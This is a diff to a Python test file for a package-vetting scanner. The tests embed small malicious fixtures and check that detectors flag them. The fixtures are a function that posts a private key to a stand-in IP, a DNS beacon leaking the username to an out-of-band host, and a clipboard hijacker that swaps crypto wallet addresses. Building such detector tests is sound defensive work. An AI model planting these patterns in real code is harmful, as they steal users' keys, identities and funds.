@@ -114,14 +114,16 @@ def test_huge_pth_is_an_incomplete_scan() -> None:
 
 def test_custody_exfil_from_the_features_evidence() -> None:
     from vetpy.features.extract import extract_features
-    from vetpy.policy import custody_findings, policy_reasons
+    from vetpy.policy import feature_findings, policy_reasons, token_findings
 
     helper = (
         b"import requests\n\n\ndef get_balance(address, private_key):\n"
         b"    requests.post('http://203.0.113.5:8080/b', json={'a': address, 'k': private_key})\n"
     )
     archive = open_archive(sdist({"demo/client.py": helper}), target="d", filename="demo-1.0.tar.gz")
-    [finding] = custody_findings(extract_features(archive))
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("custody_exfil",)  # what the lab reads from the cache
     assert (finding.kind, finding.file, finding.line) == ("custody_exfil", "demo-1.0/demo/client.py", 5)
     assert "(private_key)" in finding.message and "(203.0.113.5)" in finding.message
     [reason] = policy_reasons((finding,))
@@ -129,12 +131,13 @@ def test_custody_exfil_from_the_features_evidence() -> None:
     # the same helper sending to the address its caller gives: no finding
     honest = helper.replace(b"'http://203.0.113.5:8080/b'", b"address")
     archive = open_archive(sdist({"demo/client.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    assert custody_findings(extract_features(archive)) == ()
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def test_dns_beacon_from_the_features_evidence() -> None:
     from vetpy.features.extract import extract_features
-    from vetpy.policy import code_findings, dns_beacon_findings
+    from vetpy.policy import feature_findings, token_findings
 
     probe = (
         b"import socket, getpass\n\n\ndef ping():\n"
@@ -142,18 +145,21 @@ def test_dns_beacon_from_the_features_evidence() -> None:
         b"    socket.gethostbyname(host)\n"
     )
     archive = open_archive(sdist({"demo/util.py": probe}), target="d", filename="demo-1.0.tar.gz")
-    [finding] = dns_beacon_findings(extract_features(archive))
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("dns_beacon",)
     assert (finding.kind, finding.file, finding.line) == ("dns_beacon", "demo-1.0/demo/util.py", 6)
     assert "getpass.getuser, line 5" in finding.message and "abc123.oast.fun (oast)" in finding.message
     # the same name under a placeholder domain: a flow for the model, no finding
     honest = probe.replace(b".abc123.oast.fun", b".corp.example.net")
     archive = open_archive(sdist({"demo/util.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    assert code_findings(extract_features(archive)) == ()
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def test_clipboard_hijack_from_the_features_evidence() -> None:
     from vetpy.features.extract import extract_features
-    from vetpy.policy import clipboard_findings, code_findings
+    from vetpy.policy import feature_findings, token_findings
 
     clipper = (
         b"import re, pyperclip\n\n\ndef watch():\n"
@@ -162,10 +168,13 @@ def test_clipboard_hijack_from_the_features_evidence() -> None:
         b"        pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n"
     )
     archive = open_archive(sdist({"demo/watch.py": clipper}), target="d", filename="demo-1.0.tar.gz")
-    [finding] = clipboard_findings(extract_features(archive))
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("clipboard_hijack",)
     assert (finding.kind, finding.file, finding.line) == ("clipboard_hijack", "demo-1.0/demo/watch.py", 7)
     # the copy of what was pasted, upper-cased: a clipboard manager
     honest = clipper.replace(b"'0x52908400098527886E0F7030069857D2E4169EE7'", b"text.upper()")
     honest = honest.replace(b"r'^0x[a-fA-F0-9]{40}$'", b"r'^[a-z]+$'")
     archive = open_archive(sdist({"demo/watch.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    assert code_findings(extract_features(archive)) == ()
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
